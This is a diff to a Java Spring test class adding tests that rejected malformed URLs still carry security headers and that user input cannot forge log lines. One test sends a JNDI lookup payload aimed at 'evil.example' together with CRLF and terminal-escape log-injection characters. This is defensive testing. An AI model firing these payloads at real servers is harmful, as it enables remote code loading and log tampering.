@@ -7,6 +7,8 @@ import jakarta.servlet.FilterChain;
 import jakarta.servlet.http.HttpServletRequest;
 import jakarta.servlet.http.HttpServletResponse;
 import java.io.IOException;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
 import java.sql.SQLException;
 import java.time.LocalDate;
 import java.util.List;
@@ -22,6 +24,7 @@ import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
+import org.slf4j.LoggerFactory;
 import org.springframework.beans.factory.ObjectProvider;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.autoconfigure.SpringBootApplication;
@@ -88,6 +91,29 @@ class ErrorsTest {
         assertThat(answer.body()).contains(sentence);
         assertThat(answer.header("Content-Type")).startsWith(line.contains(" /api/") ? "application/problem+json" : "text/html");
         assertNothingInside(answer);
+    }
+
+    @Test
+    void what_the_server_itself_refuses_bears_the_strict_headers_too() {
+        for (var target : List.of("/%zz", "/a%00b", "/%ff", "//x", "/a%2Fb", "/a;b", "/api/%2F", "/" + "x".repeat(9_000), "/refused")) {
+            var answer = wire().get(target, "Accept: text/html");
+            assertThat(answer.status()).as(target).isBetween(400, 499);
+            assertThat(answer.body()).as(target).contains(target.startsWith("/api/") ? "\"detail\":" : "<h1>");
+            for (var name : List.of("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy", "Permissions-Policy",
+                    "Cross-Origin-Opener-Policy", "Cross-Origin-Resource-Policy", "X-Frame-Options")) {
+                assertThat(answer.headers(name)).as(target + " " + name).hasSize(1);
+            }
+            assertNothingInside(answer);
+        }
+    }
+
+    @Test
+    void what_somebody_typed_is_never_a_line_of_the_log(CapturedOutput log) {
+        var forged = "2026-11-22T05:09:20.665Z  INFO 1 --- [openland] Everything is well";
+        wire().get("/typed?text=" + URLEncoder.encode("${jndi:ldap://evil.example/a}\r\n" + forged + "\n\u001b[2J\u2028" + forged, StandardCharsets.UTF_8));
+        assertThat(log.getAll().lines().filter(line -> line.contains("Everything is well"))).hasSize(2)
+                .allMatch(line -> line.contains("${jndi:ldap://evil.example/a}⏎" + forged + "⏎⏎[2J⏎" + forged));
+        assertThat(log.getAll()).contains("\tat openland.page.ErrorsTest").doesNotContain("\u001b[2J");
     }
 
     @Test
@@ -275,6 +301,12 @@ class ErrorsTest {
         @GetMapping({"/unexpected", "/api/unexpected"})
         void unexpected() {
             throw new IllegalStateException("secret of the room");
+        }
+
+        @GetMapping("/typed")
+        void typed(@RequestParam String text) {
+            LoggerFactory.getLogger(Rooms.class).warn("Typed {}", text);
+            throw new IllegalStateException("Typed " + text);
         }
 
         @GetMapping("/half")
